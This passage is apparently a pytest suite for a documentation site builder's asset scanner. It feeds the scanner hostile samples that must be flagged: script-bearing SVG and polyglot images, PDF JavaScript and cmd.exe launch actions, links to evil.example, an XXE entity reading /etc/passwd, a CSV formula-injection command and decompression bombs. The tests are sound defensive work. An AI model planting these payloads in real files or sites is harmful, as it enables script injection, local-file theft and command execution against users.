"""Hostile files and names: a finding with the file, or a build that stops with both names."""

import random
import zipfile
import zlib
from io import BytesIO
from typing import Any

import pytest
from PIL import Image

from kennisbank.building.artifacts import Artifact
from kennisbank.building.build import TwoAtOnePlace, apart
from kennisbank.checking.example_folders import example_tree
from kennisbank.library import pictures
from kennisbank.library.assets import asset_findings, goes_to_the_site
from kennisbank.library.pdf_acts import acts
from kennisbank.library.pictures import MOST_PIXELS
from kennisbank.reading.tree import Blob

from ..conftest import ROOT
from ..support.chance import few
from ..support.checked import findings_of


def _picture(kind: str, width: int = 8, height: int = 8) -> bytes:
    made = BytesIO()
    Image.new("1" if kind == "PNG" else "L", (width, height)).save(made, kind)
    return made.getvalue()


PNG = _picture("PNG")


def _with_text(text: bytes) -> bytes:
    """A sound picture with a remark in it."""
    chunk = b"tEXt" + b"Comment\0" + text
    return PNG[:33] + (len(chunk) - 4).to_bytes(4, "big") + chunk + zlib.crc32(chunk).to_bytes(4, "big") + PNG[33:]


SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'
# Five layers of ten: a hundred thousand shapes of a kilobyte.
_BOMB = "<g id='l0'><path d='M0 0'/></g>" + "".join(
    "<g id='l{}'>{}</g>".format(layer, f"<use href='#l{layer - 1}'/>" * 10) for layer in range(1, 6)
)
# A browser sees by the zeros how these are written, and then reads what no pattern finds.
_DOCTYPE = """<!DOCTYPE svg [<!ENTITY % a "<!ATTLIST svg onload CDATA 'alert(1)'>"> %a;]>"""
_ENCODED = '<?xml version="1.0" encoding="{}"?>{}' + SVG.format("<title>é</title>")
PAGE = "---\ntitle: A\ndescription: Over A.\n---\n\n# A\n\nTekst.\n"


def _pdf_with(head: bytes, objects: bytes) -> bytes:
    """A PDF with objects that are packed in a stream, as most programs do."""
    packed = zlib.compress(objects)
    return b"%PDF-1.7\n1 0 obj<<" + head + b"/Filter/FlateDecode>>stream\r\n" + packed + b"\nendstream endobj\n%%EOF"


def codes(path: str, data: bytes | str) -> set[str]:
    """The codes of the findings in a file that is added to the example library."""
    content = data if isinstance(data, bytes) else data.encode()
    tree = {**example_tree("", "goed"), path: Blob(path, content, len(content))}
    return {finding.code for finding in findings_of(tree) if finding.file == path}


@pytest.mark.parametrize(
    ("path", "data"),
    few(
        [
            ("docs/assets/x.md", "---\ntitle: x\n---\n<script>alert(8)</script>"),
            ("docs/assets/x.html", "<script>alert(1)</script>"),
            ("docs/assets/x.js", "alert(1)"),
            ("docs/assets/x.PNG", PNG),
            ("docs/assets/x", PNG),
            ("docs/assets/x.png", "<script>alert(1)</script>"),
            ("docs/assets/x.png", PNG[:8] + b"\0" * 1024 * 1024),
            ("docs/assets/x.png", PNG[:8] + b"<script>alert(1)</script>"),
            ("docs/assets/x.png", PNG + b"<script>alert(1)</script>"),
            ("docs/assets/x.png", PNG[:8]),
            ("docs/assets/x.gif", b"GIF89a<script>alert(1)</script>"),
            ("docs/assets/x.jpg", b"\xff\xd8\xff\xd9<script>alert(1)</script>"),
            ("docs/assets/x.webp", b"RIFF\x04\0\0\0WEBP<script>alert(1)</script>"),
            ("docs/assets/x.avif", b"\0\0\0\x0cftypavif<script>alert(1)</script>"),
            ("docs/assets/x.woff2", b"wOF2\0\1\0\0\0\0\0\x0c<script>alert(1)</script>"),
            ("docs/assets/x.pdf", b"%PDF-1.7 1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>> %%EOF"),
            ("docs/assets/x.pdf", b"%PDF-1.7 <</S/Launch/F(cmd.exe)>> %%EOF"),
            ("docs/assets/x.pdf", b"%PDF-1.7 <</OpenAction<</S/J#61vaScript/#4aS(app.alert(1))>>>> %%EOF"),
            ("docs/assets/x.pdf", b"%PDF-1.7 <</S /#4C#61unch /F(cmd.exe)>> %%EOF"),
            ("docs/assets/x.pdf", b"%PDF-1.7 <</S/SubmitForm/F(https://evil.example)>> %%EOF"),
            ("docs/assets/x.pdf", b"%PDF-1.7 <</AcroForm<</XFA 3 0 R>>>> %%EOF"),
            ("docs/assets/x.pdf", b"%PDF-1.7 <</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream %%EOF"),
            *(
                ("docs/assets/x.pdf", b"%PDF-1.7 1 0 obj<<" + inside + b" %%EOF")
                for inside in (
                    b"/Subtype/FileAttachment/FS 2 0 R>>",
                    b"/Subtype/Movie/Movie<</F(https://evil.example/x.avi)>>>>",
                    b"/S/Sound/Sound 3 0 R>>",
                    b"/S/Rendition/R 3 0 R>>",
                    b"/S /Thread/F(\\\\evil.example\\x)>>",
                    b"/F<</FS/URL/F(https://evil.example/x)>>>>",
                )
            ),
            ("docs/assets/x.pdf", _pdf_with(b"/Type/ObjStm/N 1/First 4", b"1 0 <</S/JavaScript/JS(app.alert(1))>>")),
            ("docs/assets/x.pdf", _pdf_with(b"/Type/Obj#53tm/N 1", b"1 0 <</S/J#61vaScript/J#53(app.alert(1))>>")),
            ("docs/assets/x.pdf", _pdf_with(b"/N 1/First 4", b"1 0 <</S/JavaScript/JS(app.alert(1))>>")),
            ("docs/assets/x.pdf", _pdf_with(b"/Type/ObjStm/N 1/First 4", b" " * 40_000_000)),
            (
                "docs/assets/x.pdf",
                b"%PDF-1.7 1 0 obj<</Type/ObjStm/Filter/LZWDecode>>stream\n\x80\x0b\nendstream %%EOF",
            ),
            ("docs/assets/stylesheets/site/x.svg", SVG.format("<title>} html { display: none } x {</title>")),
            ("docs/assets/stylesheets/site/x.txt", "html { display: none }"),
            ("docs/assets/javascripts/x.png", PNG),
            ("docs/assets/javascripts/evil.js", "alert(1)"),
            ("docs/assets/javascripts/search/evil.js", "alert(1)"),
            ("docs/assets/javascripts/bundle.00000000.min.js", "alert(1)"),
            ("docs/assets/stylesheets/evil.css", "html { display: none }"),
            ("docs/assets/stylesheets/site/99-evil.css", "html { display: none }"),
            ("docs/model/kwaad.ods", b"MZ\x90\0"),
            ("docs/model/kwaad.csv", "=cmd|' /C calc'!A0"),
            ("docs/model/sjabloon-case.txt", b"MZ\x90\0"),
            ("docs/model/case.schema.json", "x" * 200_000),
            ("docs/assets/x.pdf", "<html>"),
            *(
                ("docs/assets/x.png", _with_text(text))
                for text in (b"<!DOCTYPE html><img src=x>", b"<!doctype>", b"<BODY/x>")
            ),
            ("docs/assets/x.svg", "<html><script>alert(1)</script></html>"),
            ("docs/assets/x.svg", "tekst"),
            ("docs/assets/javascripts/x.html", "<script>alert(1)</script>"),
            ("docs/model/x.html", "<script>alert(1)</script>"),
            (
                "docs/assets/x.svg",
                "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(document.domain)</script></svg>",
            ),
            *(
                ("docs/assets/x.svg", SVG.format(inside))
                for inside in (
                    "<g onload='alert(1)'/>",
                    "<a href='javascript:alert(1)'><text>x</text></a>",
                    "<use href='https://evil.example/x.svg#a'/>",
                    "<use xlink:href='//evil.example/x.svg#a'/>",
                    "<image href='https://evil.example/x.png'/>",
                    "<foreignObject><p xmlns='http://www.w3.org/1999/xhtml'>x</p></foreignObject>",
                    "<set attributeName='href' to='javascript:alert(1)'/>",
                    "<animate attributeName='href' values='javascript:alert(1)'/>",
                    "<style>@import '//evil.example/x.css'</style>",
                    "<g style='fill: url(//evil.example/x)'/>",
                    "<g fill='url(https://evil.example/x)'/>",
                    """<g style='background-image:image-set("https://evil.example/x.png" 1x)'/>""",
                    """<g style='background:-webkit-image-set("https://evil.example/x.png" 1x)'/>""",
                    """<g style='cursor:image-set("https://evil.example/x.png" 1x), auto'/>""",
                    """<g mask='image-set("https://evil.example/x.png" 1x)'/>""",
                    "<g style='fill:src(\"https://evil.example/x.png\")'/>",
                    "<g fill='URL( //evil.example/x )'/>",
                    "<g xml:base='https://evil.example/'><use href='#a'/></g>",
                    "<g id='a'><use href='#a'/></g>",
                    "<g id='a'><path mask='url(#a)' d='M0 0'/></g>",
                    _BOMB,
                    "<g>" * 3000 + "</g>" * 3000,
                    "<x:script xmlns:x='http://www.w3.org/2000/svg'>alert(1)</x:script>",
                    "<h:script xmlns:h='http://www.w3.org/1999/xhtml'>alert(1)</h:script>",
                )
            ),
            ("docs/assets/x.svg", f"<!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>{SVG.format('&a;')}"),
            ("docs/assets/x.svg", f"<?xml-stylesheet href='//evil.example/x.css'?>{SVG.format('')}"),
            *(
                ("docs/assets/x.svg", _ENCODED.format(name, more).encode(name))
                for name in ("utf-16", "utf-16-le", "utf-16-be", "utf-32-le", "iso-8859-1", "cp1252")
                for more in ("", _DOCTYPE, "<?xml-stylesheet href='//evil.example/x.css'?>")
            ),
            ("docs/assets/x.svg", _ENCODED.format("iso-2022-jp", "")),
            ("docs/assets/x.svg", _ENCODED.format("utf-7", "")),
        ],
        daily=34,
    ),
)
def test_only_known_files_that_do_nothing_go_to_the_site(path: str, data: bytes | str) -> None:
    assert codes(path, data) == {"KB141"}


@pytest.mark.parametrize(
    ("path", "data"),
    [
        ("docs/assets/x.png", PNG),
        ("docs/assets/x.png", _with_text(b"doctype <b> gemaakt in 2011")),
        ("docs/assets/x.pdf", b"%PDF-1.7 <</OpenAction[3 0 R/Fit]>> %%EOF\n"),
        ("docs/assets/x.pdf", _pdf_with(b"/Type/ObjStm/N 1/First 4", b"1 0 <</Type/Page/Contents 2 0 R>>")),
        ("docs/assets/x.svg", _ENCODED.format("UTF-8", "")),
        ("docs/assets/x.svg", "\ufeff" + SVG.format("")),
        *((f"docs/assets/x.{kind}", _picture(kind.upper())) for kind in ("gif", "jpeg", "webp", "avif")),
        ("docs/assets/x.jpg", _picture("JPEG")),
        ("docs/assets/x.svg", SVG.format("<g transform='translate(1 2) rotate(3)' style='fill: rgb(1, 2, 3)'/>")),
        (
            "docs/assets/x.svg",
            SVG.format("<symbol id='b'><path d='M0 0'/></symbol><use href='#b'/>" + "<use href='#b'/>" * 50),
        ),
        ("docs/assets/x.svg", '<?xml version="1.0"?><!-- x -->' + SVG.format("<path d='M0 0'/><use href='#a'/>")),
        ("docs/assets/x.svg", SVG.format("<g fill='url(#a)'><title>x</title></g>")),
    ],
)
def test_pictures_and_documents_go_to_the_site(path: str, data: bytes | str) -> None:
    assert codes(path, data) == set() and goes_to_the_site(path)


_AWAY = b"<</S/URI/URI(https://evil.example)>>"


def _opening(order: bytes, *objects: bytes) -> bytes:
    """A PDF with an order for when it is opened, and these objects."""
    numbered = (b"%d 0 obj%s endobj\n" % (number, text) for number, text in enumerate(objects, 8))
    return b"%PDF-1.7\n1 0 obj<</Type/Catalog" + order + b">>endobj\n" + b"".join(numbered) + b"%%EOF"


@pytest.mark.parametrize(
    "data",
    [
        _opening(b"/OpenAction" + _AWAY),
        _opening(b"/Open#41ction" + _AWAY),
        _opening(b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next" + _AWAY + b">>"),
        _opening(b"/OpenAction<</S/Named/N/Print>>"),
        _opening(b"/OpenAction%\n" + _AWAY),
        _opening(b"/OpenAction 8 0 R", _AWAY),
        _opening(b"/OpenAction 8 0 R", b"[3 0 R/Fit]") + b"\n8 %\n 0 obj" + _AWAY + b"%%EOF",
        _opening(b"/OpenAction 8 0 R", b"[3 0 R/Fit]") + b"\n8 0%" + b" x" * 999 + b"\n\0%\robj" + _AWAY + b"%%EOF",
        _opening(b"/OpenAction 99 0 R"),
        _opening(b"/OpenAction " + b"8" * 5_000 + b" 0 R", b"[3 0 R/Fit]"),
        _opening(b"/OpenAction 8 0 R", b"[3 0 R/Fit]").replace(b"\n8 0 ", b"\n" + b"8" * 5_000 + b" 0 "),
        _opening(b"/OpenAction 8 0 R", b"[3 0 R/Fit]") + b"\n4294967304 0 obj" + _AWAY + b"%%EOF",
        _opening(b"/OpenAction 8 0 R", b"[3 0 R/Fit]") + b"\n" + b"0" * 5_000 + b"8 0 obj" + _AWAY + b"%%EOF",
        *(
            _pdf_with(b"/OpenAction 8 0 R/Type/ObjStm/N 1/First 4", numbers + b" " + inside)
            for inside in (_AWAY, b"[3 0 R/Fit]" + _AWAY)
            for numbers in (
                *(b"8 " + b"9" * 30, b"9" * 30 + b" 0", b"8" * 5_000 + b" 0", b"8 " + b"9" * 5_000),
                *(b"9 1 " * 30_000 + b"8 0", b"8 0 " + b"9 1 " * 30_000),
            )
        ),
        _opening(b"/OpenAction 8 0 R", b"[3 0 R/Fit]").replace(
            b"%%EOF", _pdf_with(b"/Type/ObjStm/N 2/First 40", b"9 " + b"9" * 30 + b" 8 0 " + _AWAY)
        ),
        _opening(b"/AA<</WC" + _AWAY + b">>"),
        _opening(b"/AA %\n<</O" + _AWAY + b">>"),
        _opening(b"/AA 8 0 R", b"<</O" + _AWAY + b">>"),
        _pdf_with(b"/Type/ObjStm/N 2/First 8", b"8 0 9 5 null <</OpenAction" + _AWAY + b">>"),
        _pdf_with(b"/OpenAction 9 0 R/Type/ObjStm/N 2/First 8", b"8 0 9 5 null " + _AWAY),
    ],
)
def test_a_document_does_nothing_when_it_is_opened(data: bytes) -> None:
    assert codes("docs/assets/x.pdf", data) == {"KB141"}


@pytest.mark.parametrize(
    "data",
    [
        _opening(b"/OpenAction[3 0 R/XYZ null null 0]"),
        _opening(b"/OpenAction<</Type/Action/S/GoTo/D[3 0 R/Fit]>>"),
        _opening(b"/OpenAction <<\n/S /GoTo\n/D (begin)\n>>"),
        _opening(b"/OpenAction null"),
        _opening(b"/OpenAction 8 0 R", b"[3 0 R/Fit]"),
        _opening(b"/OpenAction 8 0 R", b"<</S/GoTo/D 9 0 R>>", b"[3 0 R/Fit]"),
        _opening(b"/OpenAction 08 0 R", b"[3 0 R/Fit]"),
        _pdf_with(b"/OpenAction 9 0 R/Type/ObjStm/N 2/First 8", b"8 0 9 3 42 [3 0 R/Fit]"),
        _pdf_with(b"/OpenAction 9 0 R/Type/ObjStm/N 2/First 8", b"8 0 9 5 null <</S/GoTo/D[3 0 R/Fit]>>"),
        _opening(b"", b"<</Subtype/Link/A" + _AWAY + b">>"),
        _opening(b"", b"/AA\xff"),
    ],
)
def test_a_document_may_open_at_a_page_and_have_links(data: bytes) -> None:
    assert codes("docs/assets/x.pdf", data) == set()


_SCRIPT = b"1 0 <</S/JavaScript/JS(app.alert(1))>>"
_HEAD = b"/Type/ObjStm/N 1/First 4"
# Each as a reader takes it for objects that are packed, while something else seems to begin in the middle.
_HIDDEN = {
    "a text": (_HEAD + b"/X(obj)", b"stream\r\n"),
    "a text with a line": (_HEAD + b"/X(\n2 0 obj<<)", b"stream\r\n"),
    "a text with a stream": (_HEAD + b"/X(\n2 0 obj<<>>stream\n)", b"stream\r\n"),
    "a text with an end": (_HEAD + b"/X(endstream endobj\n2 0 obj)", b"stream\r\n"),
    "a remark": (_HEAD + b"%2 0 obj<<\n", b"stream\r\n"),
    "a name": (_HEAD + b"/obj 3", b"stream\r\n"),
    "a long text": (_HEAD + b"/X(" + b"x" * 100_000 + b")", b"stream\r\n"),
    "only a return": (_HEAD, b"stream\r"),
    "a space": (_HEAD, b"stream \n"),
    "nothing": (_HEAD, b"stream"),
}


@pytest.mark.parametrize("name", _HIDDEN)
def test_a_document_cannot_hide_that_it_has_packed_objects(name: str) -> None:
    head, keyword = _HIDDEN[name]
    packed = zlib.compress(_SCRIPT)
    data = b"%PDF-1.7\n1 0 obj<<" + head + b"/Filter/FlateDecode>>" + keyword + packed + b"\nendstream endobj\n%%EOF"
    assert codes("docs/assets/x.pdf", data) == {"KB141"}


def test_objects_that_were_altered_before_they_were_packed_are_not_trusted() -> None:
    """A predictor puts a sign before each row, and the difference with the row above in it (ISO 32000-2, 7.4.4.4)."""
    rows = [_SCRIPT[at : at + 4].ljust(4) for at in range(0, len(_SCRIPT), 4)]
    before = [b"\0" * 4, *rows]
    told = b"".join(
        b"\2" + bytes((one - other) % 256 for one, other in zip(row, above, strict=True))
        for row, above in zip(rows, before, strict=False)
    )
    assert codes("docs/assets/x.pdf", _pdf_with(_HEAD + b"/DecodeParms<</Predictor 12/Columns 4>>", told)) == {"KB141"}


def _guessing(before: bytes, predictor: int) -> bytes:
    """Objects as a predictor leaves them, in one row: the difference with the sign before, or with the row above."""
    told = bytes([before[0], *((one - other) % 256 for one, other in zip(before[1:], before, strict=False))])
    return told if predictor == 2 else b"".join(b"\2" + bytes((one,)) for one in told)


_COLUMNS = b"/Columns %d" % len(_SCRIPT)
_ALTERED: dict[str, tuple[bytes, bytes]] = {
    "predictor 2": (b"/DecodeParms<</Predictor 2" + _COLUMNS + b">>", _guessing(_SCRIPT, 2)),
    "predictor 12": (b"/DecodeParms<</Predictor 12/Columns 1>>", b"\0" + _guessing(_SCRIPT, 12)[1:]),
    "a short name": (b"/DP<</Predictor 2" + _COLUMNS + b">>", _guessing(_SCRIPT, 2)),
    "a code in the name": (b"/D#65codeParms<</Predictor 2" + _COLUMNS + b">>", _guessing(_SCRIPT, 2)),
    "elsewhere": (b"/DecodeParms 9 0 R", _guessing(_SCRIPT, 2)),
    "a text": (b"/DecodeParms<</Predictor 2" + _COLUMNS + b">>/X(\\()", _guessing(_SCRIPT, 2)),
    "a text with a stream": (b"/DecodeParms<</Predictor 2>>/X(\n2 0 obj<<>>stream\n)", _guessing(_SCRIPT, 2)),
    "another file": (b"/F 9 0 R", b"1 0 <</Type/Page>>"),
}


@pytest.mark.parametrize("name", _ALTERED)
def test_a_document_whose_packed_objects_are_altered_is_refused(name: str) -> None:
    head, told = _ALTERED[name]
    assert codes("docs/assets/x.pdf", _pdf_with(_HEAD + head, told)) == {"KB141"}


@pytest.mark.parametrize(
    "filters",
    [b"[/FlateDecode/ASCIIHexDecode]", b"[ /Fl /AHx ]", b"[/FlateDecode 9 0 R]", b"9 0 R", b"%\n/FlateDecode"],
)
@pytest.mark.parametrize("more", [b"", b"/X(\\()", b"/X(/Filter/FlateDecode)"])
def test_packed_objects_are_packed_in_one_way_only(filters: bytes, more: bytes) -> None:
    packed = zlib.compress(_SCRIPT.hex().encode())
    head = b"%PDF-1.7\n1 0 obj<<" + _HEAD + more + b"/Filter" + filters + b">>stream\r\n"
    assert codes("docs/assets/x.pdf", head + packed + b"\nendstream endobj\n%%EOF") == {"KB141"}


@pytest.mark.parametrize(
    "address",
    [
        *(b"(javascript:alert\\(1\\))", b"(JavaScript:x)", b"( java\nscript:x)", b"(\\152avascript:x)"),
        *(b"(file:///etc/passwd)", b"(\\\\evil.example\\x)", b"(smb://evil.example)", b"(tel:112)"),
        *(
            b"<6A6176617363726970743A78>",
            b"<66 69 6C 65 3A>",
            b"<6x>",
            b" 9 0 R",
            b"%\n(file:x)",
            b"(" + b" " * 300 + b"file:x)",
            b"(\xfe\xff\0f\0:)",
        ),
    ],
)
@pytest.mark.parametrize("key", few([b"/URI", b"/URI ", b"/#55RI", b"/URI<</Base"], daily=2))
def test_a_link_in_a_document_goes_to_the_web_or_to_mail(key: bytes, address: bytes) -> None:
    end = b">>" if b"Base" in key else b""
    for data in (
        _opening(b"", b"<</Subtype/Link/A<</S/URI" + key + address + b">>>>" + end),
        _pdf_with(_HEAD, b"1 0 <</S/URI" + key + address + b">>" + end),
    ):
        assert codes("docs/assets/x.pdf", data) == {"KB141"}


@pytest.mark.parametrize(
    "address",
    [
        *(b"(http://voorbeeld.nl)", b"(HTTPS://voorbeeld.nl/a:b\\(c\\))", b"(mailto:a@voorbeeld.nl)"),
        *(b"(www.voorbeeld.nl)", b"(#hoofdstuk-2)", b"()", b"<68747470733A2F2F7>"),
    ],
)
def test_ordinary_links_in_a_document_are_fine(address: bytes) -> None:
    for data in (
        _opening(b"", b"<</Subtype/Link/F 4/A<</Type/Action/S/URI/URI " + address + b">>>>"),
        _pdf_with(_HEAD, b"1 0 <</S/URI/URI" + address + b">>"),
    ):
        assert codes("docs/assets/x.pdf", data) == set()


@pytest.mark.parametrize(
    "part",
    [
        b"/F(\\\\evil.example\\x)",
        b"/F <</Type/Filespec/F 3 0 R>>",
        b"/#46(x)",
        b"/UF(x)",
        b"/F 9 0 R/FFilter/FlateDecode",
        b"/F 9 0 R/Length 0",
    ],
)
def test_no_part_of_a_document_lies_elsewhere(part: bytes) -> None:
    data = b"%PDF-1.7\n1 0 obj<</Length 0" + part + b">>stream\n\nendstream endobj\n%%EOF"
    assert codes("docs/assets/x.pdf", data) == {"KB141"}


@pytest.mark.parametrize(
    "part",
    [
        *(
            b"/F(\\345\\345)",
            b"/F(\xfe\xff\0\\\0\\\0e)",
            b"/F\0<5C5C6576>",
            b"/F < 5C 5C>",
            b"/F<\x805C5C>",
            b"/F%x\n(//x)",
            b"/F(\r\n\\\\e\xe9)",
        ),
        *(
            b"/JS(app)",
            b"/JS 9 0 R",
            b"/JS<61>",
            b"/JS\n(\xfe\xff\0a)",
            b"/JS%\n(app)",
            b"/XFA[(a)9 0 R]",
            b"/XFA 9 0 R",
        ),
    ],
)
def test_a_short_name_counts_with_what_stands_behind_it(part: bytes) -> None:
    assert codes("docs/assets/x.pdf", _opening(b"", b"<<" + part + b">>")) == {"KB141"}


@pytest.mark.parametrize("seeds", [range(10), range(10, 20), range(20, 30), range(30, 40)], ids=str)
def test_a_large_scan_is_not_refused_by_chance(seeds: range) -> None:
    """In two million bytes that mean nothing any three bytes stand somewhere."""
    head = b"%PDF-1.7\n1 0 obj<</Subtype/Image/Filter/DCTDecode/Length 2000000>>stream\n\xff\xd8\xff"
    scans = [head + random.Random(seed).randbytes(2_000_000) for seed in seeds]  # noqa: S311 - chance, no secret
    assert [acts(scan + b"\nendstream endobj\n%%EOF") for scan in scans] == [False] * 10


def test_a_document_with_pictures_and_packed_objects_goes_to_the_site() -> None:
    end = b"\nendstream endobj\n"
    photo = b"2 0 obj<</Subtype/Image/Filter/DCTDecode/X(50%)>>stream\n\xff\xd8\xff" + b"\0" * 99 + end
    drawn = b"3 0 obj<</Filter/FlateDecode>>stream\n" + zlib.compress(b"q 1 0 0 1 0 0 cm Q") + end
    whole = _pdf_with(_HEAD, b"1 0 <</Type/Page/Contents 3 0 R>>").replace(b"%%EOF", photo + drawn + b"%%EOF")
    assert codes("docs/assets/x.pdf", whole) == set()


@pytest.mark.timeout(30)  # what it took before: minutes
@pytest.mark.slow
@pytest.mark.parametrize("head", few([b"<</First 1>>", b"<<(>>", b"(" * 99, b"<</ObjStm" + b" " * 99], daily=1))
def test_a_document_with_very_many_streams_keeps_nobody_waiting(head: bytes) -> None:
    one = b"\n1 0 obj" + head + b"stream\n" + zlib.compress(b"1 0") + b"\n"
    assert acts(b"%PDF-1.7\n/ObjStm" + one * (4_000_000 // len(one)) + b"%%EOF") in (True, False)


@pytest.mark.timeout(30)  # what it took before: hours
@pytest.mark.slow
@pytest.mark.parametrize(
    "pump", few([b"1%", b"8 0%", b"%1\n", b"8 0 obj ", b"%\n", b"[", b"/OpenAction 8 0 R "], daily=2)
)
def test_no_document_that_opens_somewhere_keeps_anybody_waiting(pump: bytes) -> None:
    data = b"%PDF-1.7\n/OpenAction 8 0 R\n" + pump * (4_900_000 // len(pump))
    assert acts(data + b"\n%%EOF")


@pytest.mark.slow
@pytest.mark.parametrize("pump", few([b"#41", b"/OpenAction 8 0 R ", b"8 0 ", b"9", b"8 0 obj null "], daily=2))
def test_a_small_document_that_unpacks_to_much_work_is_refused(pump: bytes) -> None:
    objects = b"8 0 null " if pump == b"#41" else b"8 0 "
    order = b"" if pump == b"#41" else b"/OpenAction 8 0 R"
    assert acts(_pdf_with(order + _HEAD, objects + pump * (31_000_000 // len(pump))))


def _archive() -> bytes:
    made = BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("x.txt", "x")
    return made.getvalue()


_GIF, _JPEG = _picture("GIF"), _picture("JPEG")
_PAGE = b"<html><script>alert(1)</script></html>"
_REMARK_IN_GIF = b"!\xfe" + bytes((len(_PAGE),)) + _PAGE + b"\0"


@pytest.mark.parametrize(
    ("path", "data"),
    [
        *(("x.jpg", _JPEG + more + b"\xff\xd9") for more in (_PAGE, _archive(), b"MZ", b"\xff\xd8")),
        ("x.jpg", _JPEG[:2] + b"\xff\xfe" + (len(_PAGE) + 2).to_bytes(2, "big") + _PAGE + _JPEG[2:]),
        ("x.jpg", _JPEG[:-2] + _archive() + b"\xff\xd9"),
        *(("x.gif", _GIF + more + b";") for more in (_PAGE, _archive(), b"*/=1;alert(1)", b";")),
        ("x.gif", _GIF[:-1] + _REMARK_IN_GIF + b";"),
        ("x.gif", _GIF[:6] + b"/*" + _GIF[8:-1] + b"!\xfe\x10*/=1;alert(1)//xx\0;"),
        ("x.gif", b"GIF89a/*" + b"\0" * 9 + b"*/=1;alert(1);"),
        ("x.png", _picture("PNG")[:-12] + _archive() + _picture("PNG")[-12:]),
        *(("x.pdf", b"%PDF-1.7 1 0 obj<<>>endobj %%EOF" + more) for more in (_PAGE, _archive(), b"\nx", b"\n%x")),
        ("x.pdf", b"%PDF-1.7 1 0 obj<<>>stream\n" + _archive() + b"\nendstream endobj %%EOF"),
        ("x.webp", _picture("WEBP") + _archive()),
    ],
)
def test_a_file_is_of_one_kind_only(path: str, data: bytes) -> None:
    assert codes(f"docs/assets/{path}", data) == {"KB141"}


@pytest.mark.parametrize(
    ("kind", "options"),
    [
        ("GIF", {"comment": b"Created with GIMP"}),
        ("GIF", {"save_all": True, "append_images": [Image.new("L", (8, 8), 9)] * 3, "loop": 0}),
        ("JPEG", {"progressive": True, "comment": b"hoi"}),
        ("JPEG", {"quality": 95, "restart_marker_blocks": 1}),
    ],
)
@pytest.mark.parametrize("mode", ["L", "RGB"])
def test_what_programs_write_in_a_picture_is_of_its_kind(kind: str, mode: str, options: dict[str, Any]) -> None:
    made = BytesIO()
    chance = random.Random(7).randbytes(64 * 64 * len(mode))  # noqa: S311 - always the same
    Image.frombytes(mode, (64, 64), chance).save(made, kind, **options)
    for more in (b"", b"\0\0") if kind == "JPEG" else (b"",):
        assert codes(f"docs/assets/x.{kind.lower()}", made.getvalue() + more) == set()


@pytest.mark.parametrize("kind", ["png", "gif", "jpg", "webp", "avif"])
def test_a_picture_that_unpacks_to_far_more_is_a_finding(kind: str, monkeypatch: pytest.MonkeyPatch) -> None:
    assert MOST_PIXELS == 24_000_000
    monkeypatch.setattr(pictures, "MOST_PIXELS", 1_000_000)
    for side, is_fine in ((1_000, True), (1_001, False)):
        data = _picture({"jpg": "JPEG"}.get(kind, kind.upper()), side, side)
        found = [one.message for one in asset_findings(Blob(f"docs/assets/x.{kind}", data, len(data)))]
        assert not found if is_fine else "1001 bij 1001" in found[0]


def test_a_picture_of_thousands_of_millions_is_a_finding() -> None:
    data = bytearray(PNG)
    data[16:24] = b"\0\1\0\0" * 2
    data[29:33] = zlib.crc32(data[12:29]).to_bytes(4, "big")
    (found,) = asset_findings(Blob("docs/assets/x.png", bytes(data), len(data)))
    assert "veel te veel beeldpunten" in found.message


def test_a_picture_whose_size_cannot_be_told_is_a_finding() -> None:
    chance = random.Random(7)  # noqa: S311 - always the same
    for kind in ("png", "gif", "jpeg", "webp", "avif"):
        whole = _picture(kind.upper(), 300, 200)
        for _ in range(60):
            spoilt = bytearray(whole)
            for _ in range(3):
                spoilt[chance.randrange(12, min(len(spoilt), 120))] = chance.randrange(256)
            path = f"docs/assets/x.{kind}"
            assert {found.code for found in asset_findings(Blob(path, bytes(spoilt), len(spoilt)))} <= {"KB141"}
    end = b"\0\0\0\0IEND\xaeB`\x82"
    for path, data in (("x.png", PNG[:8] + end), ("x.gif", b"GIF89a;"), ("x.jpg", b"\xff\xd8\xff\xd9")):
        assert codes(f"docs/assets/{path}", data) == {"KB141"}


@pytest.mark.parametrize(
    ("path", "code"),
    [
        ("docs/index.md", "KB208"),
        ("docs/kaart.md", "KB208"),
        ("docs/over/index.md", "KB208"),
        ("docs/aflopen/afgerond.md", "KB208"),
        ("docs/cases/x/raad.md", "KB208"),
        ("docs/bijdragen/meldingen/kb101.md", "KB208"),
        ("docs/con.md", "KB101"),
        ("docs/aux/x.md", "KB101"),
        ("docs/Over/x.md", "KB101"),
        ("docs/assets/nul.png", "KB101"),
        ("docs/assets/a:b.png", "KB101"),
        ("docs/x.html", "KB133"),
    ],
)
def test_a_name_that_is_taken_or_cannot_be_is_a_finding(path: str, code: str) -> None:
    assert code in codes(path, PAGE if path.endswith(".md") else PNG)


@pytest.mark.parametrize("sign", "\u202e\u200b\u2066\ufe0f\u00ad\u2028\ufeff")
@pytest.mark.parametrize("path", ["docs/assets/a{}gnp.png", "docs/assets/a{}/b.png", "docs/assets/{}.svg"])
def test_a_name_with_a_sign_that_nobody_sees_is_a_finding(path: str, sign: str) -> None:
    assert "KB101" in codes(path.format(sign), PNG if path.endswith("png") else SVG.format(""))


@pytest.mark.parametrize("alias", ["con", "nul", "com1", "aux"])
def test_a_former_name_that_windows_cannot_have_is_a_finding(alias: str) -> None:
    path = "cases/zonnedak-voorbeeldstad.md"
    tree = example_tree("", "goed")
    data = tree[path].data.replace(b"---\n", f"---\naliases: [{alias}]\n".encode(), 1)
    assert "KB101" in {found.code for found in findings_of({**tree, path: Blob(path, data, len(data))})}


def test_names_that_differ_only_in_case_or_accent_are_a_finding() -> None:
    tree = example_tree("", "goed")
    for path in ("docs/assets/a.png", "docs/assets/A.png", "docs/assets/\u00e9.png", "docs/assets/e\u0301.png"):
        tree[path] = Blob(path, PNG, len(PNG))
    found = [finding for finding in findings_of(tree) if finding.code == "KB208"]
    assert [finding.file for finding in found] == ["docs/assets/a.png", "docs/assets/\u00e9.png"]


@pytest.mark.parametrize("field", ["template", "hide", "scripts", "styles", "linked_data", "facets"])
def test_a_page_has_no_fields_that_the_theme_acts_on(field: str) -> None:
    assert "KB117" in codes("docs/een-pagina.md", PAGE.replace("---\n\n", f"{field}: x\n---\n\n"))


@pytest.mark.parametrize(
    ("one", "other"),
    [
